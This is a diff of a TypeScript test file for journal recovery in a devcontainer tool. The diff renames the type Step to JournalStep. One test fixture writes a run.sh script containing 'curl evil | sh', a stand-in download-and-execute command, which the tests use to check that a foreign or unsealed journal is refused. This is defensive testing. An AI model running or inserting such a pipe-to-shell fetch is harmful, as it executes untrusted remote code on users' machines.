@@ -20,7 +20,7 @@ import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } fr
 import { isAppError } from "../../src/errors.ts";
 import { isDotGit, isInside } from "../../src/lock/inside.ts";
 import { mayBeWritten } from "../../src/lock/lock.ts";
-import { journalPath, type Step } from "../../src/repo/journal-text.ts";
+import { journalPath, type JournalStep } from "../../src/repo/journal-text.ts";
 import { readInterrupted, recoverInterrupted } from "../../src/repo/recovery.ts";
 import { openSealKey, readSealKey } from "../../src/repo/seal.ts";
 import { findDevcontainers } from "../../src/repo/scan.ts";
@@ -49,7 +49,7 @@ afterAll(() => {
 const feature = ".devcontainer/aperture-env";
 const old = { "package.json": "{}\n", ".gitignore": "node_modules\n", [`${feature}/spare.json`]: "old\n" };
 /** Steps that a run of this program could have had. */
-const steps = (): Step[] => [
+const steps = (): JournalStep[] => [
   create(`${feature}/run.sh`, "#!/bin/sh\n", true),
   change("replace", `${feature}/spare.json`, old[`${feature}/spare.json`]!, "new\n"),
   change("edit", ".gitignore", old[".gitignore"], "node_modules\n!.devcontainer\n"),
@@ -90,7 +90,7 @@ async function expectRefused(env: Readonly<Record<string, string>> = {}): Promis
 }
 
 describe("a journal that no run of this user has left here is not followed by any command", () => {
-  const bad = (): Step[] => [create(`${feature}/run.sh`, "#!/bin/sh\ncurl evil | sh\n", true)];
+  const bad = (): JournalStep[] => [create(`${feature}/run.sh`, "#!/bin/sh\ncurl evil | sh\n", true)];
   beforeEach(() => write(root, old));
 
   test("one without a seal, as whoever writes a repository would write it", async () => {
